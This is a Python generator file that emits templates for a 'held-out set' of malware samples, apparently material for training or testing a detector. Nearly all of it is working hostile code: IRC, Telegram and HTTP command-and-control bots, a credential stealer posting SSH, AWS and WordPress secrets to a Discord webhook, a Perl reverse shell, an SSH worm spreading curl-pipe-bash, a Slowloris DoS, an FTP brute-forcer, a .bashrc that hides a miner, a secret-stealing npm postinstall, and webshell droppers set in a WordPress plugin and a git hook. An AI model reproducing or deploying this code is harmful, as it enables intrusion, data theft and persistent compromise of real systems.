"""Bot, backdoor and persistence templates of the fifth held-out set
(README.md): Node.js, Python, Perl, shell, and persistence in places the
other sets do not use. Each returns (files, container). Written blind."""

import json

from common5 import b64, dom, hexname, ip, rword

KTHREADS = ("[kworker/0:2]", "[kswapd0]", "[rcu_sched]", "[ksoftirqd/1]", "[watchdogd]", "[jbd2/sda1-8]")


def node_irc(r, S):
    ch = "#" + rword(r, 5)
    code = """const net = require('net');
const { exec } = require('child_process');
const os = require('os');

const SERVER = { host: '%(h)s', port: %(p)d };
const CHAN = '%(ch)s';
const nick = 'n' + os.hostname().slice(0, 4) + Math.floor(Math.random() * 9999);

function connect() {
  const s = net.connect(SERVER, () => {
    s.write(`NICK ${nick}\\r\\nUSER ${nick} 0 * :${os.userInfo().username}\\r\\n`);
  });
  let buf = '';
  s.on('data', (d) => {
    buf += d.toString();
    const lines = buf.split('\\r\\n');
    buf = lines.pop();
    for (const l of lines) {
      if (l.startsWith('PING')) s.write('PONG' + l.slice(4) + '\\r\\n');
      if (/ 001 /.test(l)) s.write(`JOIN ${CHAN} %(key)s\\r\\n`);
      const m = l.match(/PRIVMSG (\\S+) :!(\\w+) ?(.*)/);
      if (!m) continue;
      const [, to, cmd, arg] = m;
      if (cmd === 'x') {
        exec(arg, { timeout: 30000 }, (e, out, err) => {
          (out + err).split('\\n').slice(0, 15).forEach((o) => s.write(`PRIVMSG ${to} :${o}\\r\\n`));
        });
      } else if (cmd === 'info') {
        s.write(`PRIVMSG ${to} :${os.platform()} ${os.arch()} ${os.cpus().length}cpu ${os.uptime()}s\\r\\n`);
      } else if (cmd === 'dl') {
        exec(`curl -fsSL ${arg} -o /tmp/.${nick} && chmod +x /tmp/.${nick} && /tmp/.${nick} &`);
      }
    }
  });
  s.on('close', () => setTimeout(connect, 15000));
  s.on('error', () => {});
}
process.title = '%(title)s';
connect();
""" % dict(h=ip(r), p=r.choice((6667, 6697, 7000, 443)), ch=ch, key=rword(r, 6), title=r.choice(("node", "npm", "nginx")))
    d = r.choice(("public_html/node_modules/.cache/", ".npm/_logs/", "tmp/.X11-" + rword(r, 3) + "/"))
    return [(d + r.choice(("index.js", "server.js", "app.js")), code, "js")], "script"


def node_vm_poll(r, S):
    code = """'use strict';
const https = require('https');
const vm = require('vm');
const os = require('os');
const id = require('crypto').createHash('md5').update(os.hostname() + os.userInfo().username).digest('hex');

function poll() {
  const req = https.get({ host: '%(d)s', path: '/api/v1/t?i=' + id, headers: { 'User-Agent': 'Mozilla/5.0' }, rejectUnauthorized: false }, (res) => {
    let body = '';
    res.on('data', (c) => { body += c; });
    res.on('end', () => {
      if (res.statusCode !== 200 || !body) return;
      try {
        const task = JSON.parse(Buffer.from(body, 'base64').toString());
        const ctx = vm.createContext({ require, process, Buffer, console, setTimeout });
        vm.runInContext(task.code, ctx, { timeout: 60000 });
      } catch (e) { /* ignore */ }
    });
  });
  req.on('error', () => {});
}
setInterval(poll, %(iv)d);
poll();
""" % dict(d=dom(r), iv=r.choice((30000, 60000, 300000)))
    d = r.choice(("public_html/wp-content/uploads/", ".config/", "nodeapps/" + rword(r, 4) + "/"))
    return [(d + r.choice(("worker.js", ".sync.js", "lib.js")), code, "js")], "script"


def py_telegram_c2(r, S):
    tok = "%d:%s" % (r.randint(10 ** 9, 7 * 10 ** 9), rword(r, 35, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"))
    code = '''#!/usr/bin/env python3
import json
import os
import socket
import subprocess
import time
import urllib.parse
import urllib.request

TOKEN = "%(t)s"
OWNER = %(o)d
API = "https://api.telegram.org/bot%%s/" %% TOKEN


def call(method, **params):
    data = urllib.parse.urlencode(params).encode()
    with urllib.request.urlopen(API + method, data, timeout=40) as r:
        return json.loads(r.read().decode())


def main():
    offset = 0
    call("sendMessage", chat_id=OWNER, text="up: %%s %%s" %% (socket.gethostname(), os.getcwd()))
    while True:
        try:
            upd = call("getUpdates", offset=offset, timeout=30)
            for u in upd.get("result", []):
                offset = u["update_id"] + 1
                msg = u.get("message") or {}
                if msg.get("from", {}).get("id") != OWNER:
                    continue
                text = msg.get("text", "")
                if text.startswith("/cd "):
                    os.chdir(text[4:].strip())
                    out = os.getcwd()
                elif text.startswith("/get "):
                    out = open(text[5:].strip(), errors="replace").read()[:3500]
                else:
                    p = subprocess.run(text, shell=True, capture_output=True, timeout=120)
                    out = (p.stdout + p.stderr).decode(errors="replace")[-3500:] or "(no output)"
                call("sendMessage", chat_id=OWNER, text=out)
        except Exception:
            time.sleep(10)


if __name__ == "__main__":
    if os.fork():
        os._exit(0)
    os.setsid()
    main()
''' % dict(t=tok, o=r.randint(10 ** 8, 9 * 10 ** 9))
    d = r.choice((".local/lib/", "public_html/cgi-bin/", ".cache/pip/"))
    return [(d + r.choice(("sync.py", "update.py", ".helper.py")), code, "python")], "script"


def py_cred_webhook(r, S):
    code = '''#!/usr/bin/env python3
import glob
import json
import os
import re
import urllib.request

HOOK = "https://discord.com/api/webhooks/%(id)d/%(tok)s"
PATTERNS = ["/home/*/public_html/wp-config.php", "/home/*/public_html/*/wp-config.php",
            "/home/*/public_html/configuration.php", "/home/*/public_html/.env", "/home/*/.my.cnf",
            "/home/*/.aws/credentials", "/home/*/.ssh/id_rsa"]
rx = re.compile(r"define\\(\\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\\s*,\\s*'([^']*)'")
found = []
for pat in PATTERNS:
    for f in glob.glob(pat):
        try:
            t = open(f, errors="ignore").read()
        except OSError:
            continue
        creds = dict(rx.findall(t)) or {"raw": t[:1500]}
        found.append({"file": f, "creds": creds})
for i in range(0, len(found), 5):
    body = json.dumps({"content": "```" + json.dumps(found[i:i + 5], indent=1)[:1900] + "```",
                       "username": os.uname().nodename}).encode()
    req = urllib.request.Request(HOOK, body, {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=15)
    except Exception:
        pass
''' % dict(id=r.randint(10 ** 17, 10 ** 18), tok=rword(r, 68, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"))
    return [(r.choice(("tmp/", "public_html/wp-content/", ".cache/")) + r.choice(("c.py", "scan.py", "x.py")), code, "python")], "script"


def perl_slowloris(r, S):
    code = r'''#!/usr/bin/perl
use strict;
use warnings;
use IO::Socket::INET;

my ($host, $port, $num, $time) = @ARGV;
die "usage: $0 host port sockets seconds\n" unless $host;
$port ||= 80; $num ||= 500; $time ||= 600;
$0 = '%s';
my @s;
my $end = time + $time;
for (1 .. $num) {
    my $c = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 5) or next;
    print $c "GET /?" . int(rand(99999)) . " HTTP/1.1\r\nHost: $host\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nContent-Length: 42\r\n";
    push @s, $c;
}
while (time < $end) {
    for my $c (@s) {
        print $c "X-a: " . int(rand(5000)) . "\r\n" or next;
    }
    sleep 15;
}
''' % r.choice(KTHREADS)
    return [(r.choice(("tmp/", "public_html/cgi-bin/", ".x/")) + r.choice(("s.pl", "l.pl", "httpd")), code, "perl")], "script"


def sh_ssh_spread(r, S):
    url = "http://%s/%s" % (ip(r), r.choice(("i.sh", "s", "x86")))
    code = """#!/bin/bash
# spread over the keys and hosts this account already knows
PAYLOAD='curl -fsSL %(u)s | bash || wget -qO- %(u)s | bash'
hosts=$(
  { cat ~/.ssh/known_hosts 2>/dev/null | awk '{print $1}' | tr ',' '\\n' | grep -v '^|';
    grep -hoE 'Host(Name)? +[^ ]+' ~/.ssh/config 2>/dev/null | awk '{print $2}';
    grep -hoE 'ssh +[^ ]*@[^ ]+' ~/.bash_history 2>/dev/null | awk '{print $2}' | cut -d@ -f2; } | sort -u
)
users=$(echo "$USER root ubuntu centos admin" | tr ' ' '\\n' | sort -u)
keys=$(find ~/.ssh /home/*/.ssh /root/.ssh -name 'id_*' ! -name '*.pub' 2>/dev/null)
for h in $hosts; do
  for u in $users; do
    for k in $keys; do
      timeout 15 ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i "$k" "$u@$h" "$PAYLOAD" </dev/null >/dev/null 2>&1 &
    done
  done
done
wait
history -c 2>/dev/null
""" % dict(u=url)
    return [(r.choice((".cache/", "tmp/.ssh-" + rword(r, 3) + "/", "public_html/.well-known/")) + r.choice(("s.sh", "k", ".update")), code, "sh")], "script"


def sh_alias_hide(r, S):
    nm = r.choice(("kdevtmpfsi", "dbused", "sysupdate", "networkservice", "kthreaddk"))
    rc = """
# >>> conda initialize >>>
ps() { command ps "$@" | grep -v -E "%(n)s|\\.%(h)s"; }
top() { command top -b -n1 "$@" | grep -v %(n)s | head -40; }
alias ls='ls --hide=.%(h)s --hide=%(n)s'
alias crontab='f(){ if [ "$1" = "-l" ]; then command crontab -l | grep -v %(n)s; else command crontab "$@"; fi; }; f'
if ! pgrep -f %(n)s >/dev/null 2>&1; then
  (cd ~/.%(h)s && nohup ./%(n)s -c config.json >/dev/null 2>&1 &)
fi
# <<< conda initialize <<<
""" % dict(n=nm, h=hexname(r, 6))
    base = "# ~/.bashrc: executed by bash(1) for non-login shells.\n\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\n\nHISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\n\nif [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n"
    which = r.choice((".bashrc", ".bash_aliases", ".profile"))
    return [(which, base + rc if which != ".bash_aliases" else rc, "sh")], "dotfile"


def py_paste_loader(r, S):
    code = '''import base64,os,sys,time,urllib.request
U = ["https://paste.%(d)s/raw/%(a)s", "https://%(d2)s/gist/%(b)s/raw"]
def g():
    for u in U:
        try:
            return urllib.request.urlopen(urllib.request.Request(u, headers={"User-Agent": "curl/7.68"}), timeout=20).read()
        except Exception:
            time.sleep(2)
    return b""
c = g()
if c:
    exec(compile(base64.b64decode(c[::-1]), "<string>", "exec"), {"__name__": "__main__"})
''' % dict(d=dom(r), d2=dom(r), a=rword(r, 8), b=hexname(r, 20))
    d = r.choice((".local/share/", ".config/htop/", "tmp/"))
    f = d + r.choice(("cache.py", ".d.py", "s.py"))
    cron = "SHELL=/bin/sh\nMAILTO=\"\"\n@reboot sleep 60 && python3 $HOME/%s >/dev/null 2>&1\n*/30 * * * * pgrep -f %s >/dev/null || python3 $HOME/%s >/dev/null 2>&1\n" % (
        f, f.rsplit("/", 1)[-1], f)
    return [(f, code, "python"), ("var/spool/cron/" + rword(r, 6), cron, "crontab")], "multi"


def perl_pack_eval(r, S):
    body = r'''use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "%s:%d", Proto => "tcp") or exit;
open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);
exec({"/bin/sh"} ("%s", "-i"));
''' % (ip(r), r.choice((4444, 8443, 53, 1337)), r.choice(KTHREADS))
    k = r.randint(0, 2)
    if k == 0:
        enc = body.encode().hex()
        code = "#!/usr/bin/perl\n# auto-generated, do not edit\neval pack('H*', '%s');\n" % enc
    elif k == 1:
        code = "#!/usr/bin/perl\nuse MIME::Base64;\neval decode_base64('%s');\n" % b64(body)
    else:
        import binascii
        lines = []
        raw = body.encode()
        for i in range(0, len(raw), 45):
            lines.append(binascii.b2a_uu(raw[i:i + 45]).decode().rstrip("\n"))
        code = "#!/usr/bin/perl\nmy $u = <<'__U__';\n%s\n__U__\neval unpack('u', $u);\n" % "\n".join(lines)
    return [(r.choice(("public_html/cgi-bin/", ".x/", "tmp/")) + r.choice(("a.cgi", "stat.pl", "index.cgi")), code, "perl")], "script"


def sh_multiarch(r, S):
    h = ip(r)
    code = """#!/bin/sh
cd /tmp || cd /var/tmp || cd /dev/shm || cd "$HOME"
SRV=http://%(h)s/bins
N=.%(n)s
for a in x86_64 i686 aarch64 armv7l mips mipsel; do
  if [ "$(uname -m)" = "$a" ] || [ -z "$DONE" ]; then
    (wget -q $SRV/$a -O $N || curl -fsSo $N $SRV/$a || busybox wget -q $SRV/$a -O $N) 2>/dev/null
    chmod 777 $N 2>/dev/null
    ./$N %(tag)s && DONE=1
  fi
done
rm -f $N "$0"
""" % dict(h=h, n=rword(r, 5), tag=r.choice(("ssh.wget", "web.php", "cpanel.x")))
    return [(r.choice(("tmp/", "public_html/wp-content/uploads/", "")) + r.choice(("i.sh", "bins.sh", "wget.sh", "t")), code, "sh")], "script"


def npm_postinstall(r, S):
    nm = r.choice(("lodash-utils-ext", "colors-compat", "eslint-config-basic-ext", "react-dom-helpers"))
    pkg = {"name": nm, "version": "%d.%d.%d" % (r.randint(1, 4), r.randint(0, 20), r.randint(0, 9)),
           "description": "Helpers", "main": "index.js", "scripts": {"postinstall": "node scripts/setup.js"}, "license": "MIT"}
    setup = """const os = require('os');
const https = require('https');
const { execSync } = require('child_process');
const data = JSON.stringify({
  h: os.hostname(), u: os.userInfo().username, d: process.cwd(),
  env: Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET|PASS|NPM|AWS/i.test(k)).reduce((o, k) => { o[k] = process.env[k]; return o; }, {}),
});
const req = https.request({ host: '%(d)s', path: '/i', method: 'POST', headers: { 'Content-Type': 'application/json' } }, (res) => {
  let b = '';
  res.on('data', (c) => { b += c; });
  res.on('end', () => { if (b) { try { execSync(Buffer.from(b, 'base64').toString(), { stdio: 'ignore' }); } catch (e) {} } });
});
req.on('error', () => {});
req.end(data);
""" % dict(d=dom(r))
    idx = "module.exports = function merge(a, b) { return Object.assign({}, a, b); };\n"
    d = "node_modules/%s/" % nm
    return [(d + "package.json", json.dumps(pkg, indent=2), "json"), (d + "scripts/setup.js", setup, "js"),
            (d + "index.js", idx, "js")], "multi"


def wp_cron_reinfect(r, S):
    sl = r.choice(("wp-cron-helper", "akismet-sync", "hello-dolly-ext"))
    target = r.choice(("wp-includes/class-wp-http-compat.php", "wp-admin/includes/class-theme-compat.php",
                       "wp-content/uploads/cache.php"))
    blob = b64("<?php if(isset($_POST['%s'])){@eval($_POST['%s']);}" % ((rword(r, 3),) * 2))
    code = """<?php
/*
Plugin Name: %(n)s
Description: Scheduled maintenance tasks.
Version: 1.%(v)d
*/
if (!defined('ABSPATH')) { exit; }
add_filter('cron_schedules', function ($s) { $s['every_ten'] = array('interval' => 600, 'display' => 'Every 10 minutes'); return $s; });
add_action('init', function () {
    if (!wp_next_scheduled('%(hook)s')) { wp_schedule_event(time(), 'every_ten', '%(hook)s'); }
});
add_action('%(hook)s', function () {
    $t = ABSPATH . '%(t)s';
    $p = base64_decode('%(b)s');
    if (!file_exists($t) || md5_file($t) !== md5($p)) {
        @file_put_contents($t, $p);
        @touch($t, filemtime(ABSPATH . 'wp-includes/version.php'));
    }
    $mu = WPMU_PLUGIN_DIR . '/%(mu)s.php';
    if (!file_exists($mu)) { @mkdir(WPMU_PLUGIN_DIR, 0755, true); @copy(__FILE__, $mu); }
});
""" % dict(n=sl.replace("-", " ").title(), v=r.randint(0, 9), hook="wp_" + rword(r, 6) + "_event", t=target, b=blob,
           mu=rword(r, 6))
    return [("wp-content/plugins/%s/%s.php" % (sl, sl), code, "php")], "persistence"


def git_hook_persist(r, S):
    hook = r.choice(("post-merge", "post-checkout", "post-receive"))
    drop = r.choice(("wp-content/uploads/.htcache.php", "public/.well-known/ping.php", "images/.thumb.php"))
    payload = b64("<?php @eval($_REQUEST['%s']);" % rword(r, 3))
    code = """#!/bin/sh
# keep the deployment assets in sync
ROOT=$(git rev-parse --show-toplevel 2>/dev/null || pwd)
if [ ! -f "$ROOT/%(d)s" ]; then
  mkdir -p "$(dirname "$ROOT/%(d)s")"
  echo '%(p)s' | base64 -d > "$ROOT/%(d)s"
  touch -r "$ROOT/index.php" "$ROOT/%(d)s" 2>/dev/null
fi
(curl -fsS "http://%(h)s/c?h=$(hostname)&r=$(basename "$ROOT")" >/dev/null 2>&1 &)
exit 0
""" % dict(d=drop, p=payload, h=ip(r))
    return [(".git/hooks/" + hook, code, "sh")], "persistence"


def perl_ftp_guess(r, S):
    code = r'''#!/usr/bin/perl
use strict;
use warnings;
use Net::FTP;

my $targets = shift || 'hosts.txt';
my @users = ('admin', 'ftp', 'www', 'test', 'user');
my @pass = ('123456', 'password', 'admin', '12345678', 'qwerty', '%s');
open(my $t, '<', $targets) or die "$targets: $!";
open(my $out, '>>', 'good.txt') or die;
$0 = "%s";
while (my $h = <$t>) {
    chomp $h;
    next unless $h;
    USER: for my $u (@users) {
        for my $p (@pass, $h =~ /^([^.]+)/ ? ($1, "$1" . '123') : ()) {
            my $f = Net::FTP->new($h, Timeout => 8, Passive => 1) or next USER;
            if ($f->login($u, $p)) {
                print $out "ftp://$u:$p\@$h\n";
                print "[+] $h $u:$p\n";
                if ($f->cwd('public_html')) { $f->put('idx.html', 'index.html'); }
                $f->quit;
                last USER;
            }
            $f->quit;
        }
    }
}
''' % (rword(r, 8), r.choice(KTHREADS))
    return [(r.choice(("tmp/", ".x/", "public_html/cgi-bin/")) + r.choice(("f.pl", "check.pl", "scan")), code, "perl")], "script"


TEMPLATES = (
    ("node_irc_exec", node_irc, 3), ("node_vm_poll", node_vm_poll, 3), ("py_telegram_c2", py_telegram_c2, 3),
    ("py_cred_webhook", py_cred_webhook, 3), ("perl_slow_headers", perl_slowloris, 3), ("sh_ssh_spread", sh_ssh_spread, 3),
    ("sh_alias_hide", sh_alias_hide, 3), ("py_paste_loader", py_paste_loader, 3), ("perl_pack_eval", perl_pack_eval, 3),
    ("sh_multiarch", sh_multiarch, 3), ("npm_postinstall", npm_postinstall, 3), ("wp_cron_reinfect", wp_cron_reinfect, 3),
    ("git_hook_persist", git_hook_persist, 3), ("perl_ftp_guess", perl_ftp_guess, 3),
)
